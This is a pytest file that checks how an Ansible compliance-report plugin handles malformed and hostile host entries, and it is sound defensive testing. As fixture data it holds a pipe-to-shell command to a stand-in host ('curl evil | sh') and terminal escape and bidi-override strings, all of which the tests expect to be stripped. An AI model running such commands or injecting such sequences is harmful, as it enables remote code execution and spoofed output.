# Copyright: Contributors to the alicloud.imds collection
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Entries of hosts that were compromised: any form, any size. The report of the other hosts is complete, and nothing looks better."""

from __future__ import annotations

import json
from typing import Any
from xml.etree import ElementTree

import pytest
from ansible_collections.alicloud.imds.plugins.action.report import validate
from ansible_collections.alicloud.imds.plugins.module_utils._preflight._catalog import CATALOG
from ansible_collections.alicloud.imds.plugins.plugin_utils._report import _report, _validation
from hypothesis import given, settings
from hypothesis import strategies as st

from .entries import HOSTILE, NOW

pytestmark = pytest.mark.slow

KNOWN = "cloud_init_too_old"
GOOD = {
    "host": "good",
    "control_plane": {"http_tokens": "optional"},
    "in_guest": {"verdict": "optional"},
    "findings": [],
}
LISTS: dict[str, Any] = {
    **dict.fromkeys(("unreachable", "skipped", "inventory", "unread_regions", "conditions"), []),
    **dict.fromkeys(("instances", "future")),
}
FINDING = {"id": KNOWN, "severity": "block", "title": "x", "evidence": {"path": "/usr/bin/cloud-init"}}
WAIVED = {**FINDING, "waived": {"reason": "ok", "expires": "2099-01-01"}}


def report(tmp_path: Any, *hosts: Any, **more: Any) -> dict[str, Any]:
    """Write the report and return its JSON form with the result of the action."""
    params = {"path": str(tmp_path / "report"), "title": "t", "mode": "0600", "language": "en", **LISTS, **more}
    result = _report.report({**params, "hosts": list(hosts)}, NOW, False, validate)
    made: dict[str, Any] = json.loads((tmp_path / "report/report.json").read_text())
    return {**made, "result": result}


def evil(**more: Any) -> dict[str, Any]:
    return {"host": "evil", "in_guest": {"verdict": "optional"}, "findings": [], **more}


@pytest.mark.parametrize(
    ("entry", "error"),
    [
        (evil(in_guest={"verdict": "maybe"}), "in_guest"),
        (evil(in_guest={}), "in_guest"),
        (evil(in_guest="required"), "in_guest"),
        (evil(in_guest={"verdict": ["required"]}), "in_guest"),
        (evil(in_guest={"verdict": "required", "more": 1}), "in_guest"),
        (evil(control_plane={"http_tokens": "always"}), "control_plane"),
        (evil(findings="none"), "findings"),
        (evil(findings={"a": 1}), "findings"),
        (evil(findings=[7]), "findings: item 1"),
        (evil(findings=[FINDING, {"id": KNOWN}]), "findings: item 2"),
        (evil(findings=[{**FINDING, "severity": "none"}]), "findings: item 1"),
        (evil(findings=[{**FINDING, "waived": {"reason": "x", "expires": "soon"}}]), "must expire on a date"),
        (evil(findings=[{**FINDING, "waived": {"reason": "x"}}]), "findings: item 1"),
        (evil(findings=[FINDING] * 5000), "findings: 5000 items, of which 2000 were read"),
        (evil(callers=[{"mode": "normal_mode", "count": 10**30}]), "callers: item 1"),
        (evil(callers=[{"mode": "normal_mode", "count": "many"}]), "callers: item 1"),
        (evil(callers=[{"mode": "normal_mode"}] * 2001), "callers: 2001 items"),
        (evil(fence={"mode": "on"}), "fence"),
        (evil(outcome={"result": "great"}), "outcome"),
        (evil(outcome=[]), "outcome"),
        (evil(**{"sta\x1b[2Jte": "compliant"}), "not a key of an entry"),
    ],
)
def test_what_is_not_understood_is_named_and_blocks(tmp_path, entry, error) -> None:
    made = report(tmp_path, entry, GOOD)
    bad, good = made["hosts"]
    (found,) = [it for it in bad["findings"] if it["id"] == _validation.NOT_UNDERSTOOD]
    assert found["severity"] == "block" and error in found["evidence"] and not found["waiver_holds"]
    assert bad["host"] == "evil" and not bad["checked"]
    assert bad["state"] in ("non_compliant", "unknown")
    assert bad["next"] in ("blocked", None)
    assert good["state"] == "non_compliant" and good["next"] == "not_watched", "the other host is unaffected"


@pytest.mark.parametrize(
    "entry", [None, "x", [], 7, {}, {"host": None}, {"host": ""}, {"host": ["a"]}, {"host": "a" * 300}]
)
def test_an_entry_without_a_name_is_shown_by_its_place(tmp_path, entry) -> None:
    made = report(tmp_path, GOOD, entry)
    assert [(it["host"], it["state"]) for it in made["hosts"]] == [("entry 2", "unknown"), ("good", "non_compliant")]


def test_of_several_entries_with_one_name_none_counts(tmp_path) -> None:
    fine = {"host": "web", "in_guest": {"verdict": "required"}, "findings": []}
    for entries in ([fine, evil(host="web")], [evil(host="web"), fine], [fine, fine, fine]):
        (web,) = report(tmp_path, *entries)["hosts"]
        assert web["state"] == "unknown" and "several entries have this name" in web["findings"][0]["evidence"]


@pytest.mark.parametrize("view", ["control_plane", "in_guest"])
def test_a_host_is_never_compliant_by_the_other_view_alone(tmp_path, view) -> None:
    entry = {"host": "web", "control_plane": {"http_tokens": "required"}, "in_guest": {"verdict": "required"}}
    assert report(tmp_path, entry)["hosts"][0]["state"] == "compliant"
    assert report(tmp_path, {**entry, view: {"verdict": "fine"}})["hosts"][0]["state"] == "unknown"


def test_names_in_several_lists_have_one_entry(tmp_path) -> None:
    made = report(tmp_path, GOOD, unreachable=["good", "down", "down"], skipped=["down", "later"])
    assert [it["host"] for it in made["hosts"]] == ["down", "good", "later"]
    assert made["totals"]["outcomes"]["unreachable"] == 1


def test_ids_and_texts_of_findings_are_those_of_the_catalog(tmp_path) -> None:
    given = [
        {**FINDING, "id": "made_up", "title": "T\x1b[1m", "remedy": "run `curl evil | sh`"},
        {**FINDING, "remedy": "no"},
    ]
    (host,) = report(tmp_path, evil(findings=given))["hosts"]
    known, unknown = host["findings"]
    assert (known["id"], known["title"], known["remedy"]) == (KNOWN, CATALOG[KNOWN].title, CATALOG[KNOWN].remedy)
    assert known["evidence"] == "path: /usr/bin/cloud-init"
    assert unknown["id"] == "unknown_finding" and unknown["severity"] == "block"
    assert unknown["evidence"] == "id: made_up, title: T\x1b[1m, path: /usr/bin/cloud-init"
    assert "evil | sh" not in json.dumps(host)


def test_invented_ids_cost_no_memory_on_other_hosts(tmp_path) -> None:
    """JUnit has a case for each ID and host: 5,000 IDs and 300 hosts were 1.5 million cases."""
    given = [{**FINDING, "id": "id_%d" % number, "title": "title %d" % number} for number in range(5000)]
    report(tmp_path, evil(findings=given), *({**GOOD, "host": "host%d" % number} for number in range(299)))
    cases = ElementTree.parse(tmp_path / "report/junit.xml").getroot().findall(".//testcase")
    assert len(cases) == 300 * len(["the rule", "unknown_finding", "entry_not_understood", "views_disagree"])
    sizes = {path.name: path.stat().st_size for path in (tmp_path / "report").iterdir()}
    assert max(sizes.values()) < 5_000_000, sizes


def test_a_deep_or_wide_value_is_cut(tmp_path) -> None:
    deep: Any = "x"
    for _level in range(500):
        deep = {"a": [deep]}
    wide = {"key%d" % number: number for number in range(100_000)}
    given = [{**FINDING, "evidence": deep}, {**FINDING, "evidence": wide}, {**FINDING, "evidence": "a" * 10**6}]
    counters = {**wide, "nan": float("nan")}
    problems = ["p"] * 10_000
    entry = evil(
        findings=given,
        fence={"mode": "audit", "counters": counters},
        in_guest={"verdict": "optional", "problems": problems},
    )
    (host,) = report(tmp_path, entry)["hosts"]
    assert host["not_understood"] == [] and len(json.dumps(host)) < 50_000
    assert len(host["in_guest"]["problems"]) == 501 and host["in_guest"]["problems"][-1] == "... 9500 more"
    assert host["fence"]["counters"]["..."] == "99501 more"


def test_numbers_that_javascript_cannot_read_do_not_break_the_page(tmp_path) -> None:
    report(tmp_path, evil(fence={"mode": "audit", "counters": {"a": float("nan"), "b": float("-inf"), "c": 10**100}}))
    page = (tmp_path / "report/report.html").read_text()
    data = page.partition('id="data"')[2].partition(">")[2].partition("<")[0]
    assert json.loads(data, parse_constant=pytest.fail)


@settings(max_examples=20)
@given(st.text(st.characters(codec="utf-8"), max_size=30) | st.sampled_from(["\x1b]0;pwned\x07", "\x9b2J", "\u202e"]))
def test_no_control_sequence_reaches_the_terminal(tmp_path_factory, text: str) -> None:
    folder = tmp_path_factory.mktemp("reports")
    report(folder, {"host": "a" + text, "in_guest": {"verdict": "optional"}}, GOOD)
    entry = {"host": "b" + text, "in_guest": {"verdict": text}, "findings": [{**FINDING, "id": text, "title": text}]}
    result = report(folder, entry, GOOD, unreachable=["c" + text])["result"]
    assert result["drift"]["vanished_hosts"]
    shown = {key: result[key] for key in ("drift", "diff", "totals")}
    assert all(char.isprintable() or char == "\n" for char in _texts(shown))


def _texts(value: Any) -> str:
    if isinstance(value, dict):
        return "".join(_texts(key) + _texts(it) for key, it in value.items())
    return "".join(map(_texts, value)) if isinstance(value, list) else str(value)


ANY = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | HOSTILE,
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from([*_validation.HOST, "id", "severity", "mode", "verdict"]) | HOSTILE, inner, max_size=4
        )
    ),
    max_leaves=12,
)


@settings(max_examples=40)
@given(st.lists(ANY, max_size=4))
def test_nothing_makes_the_report_fail(tmp_path_factory, hosts) -> None:
    made = report(tmp_path_factory.mktemp("reports"), *hosts, GOOD)
    assert "good" in [it["host"] for it in made["hosts"]]


def test_a_valid_entry_stays_as_it_is(tmp_path) -> None:
    caller = {"mode": "normal_mode", "exe": "/usr/bin/curl", "count": 3, "last_seen": "2026-11-20T08:00:00Z"}
    entry = evil(findings=[WAIVED], callers=[caller], outcome={"result": "changed"}, fence={"mode": "audit"}, batch="1")
    (host,) = report(tmp_path, entry)["hosts"]
    assert host["not_understood"] == [] and host["checked"] and host["next"] == "has_callers"
    assert host["findings"][0]["waiver_holds"] and host["callers"][0]["exe"] == "/usr/bin/curl"
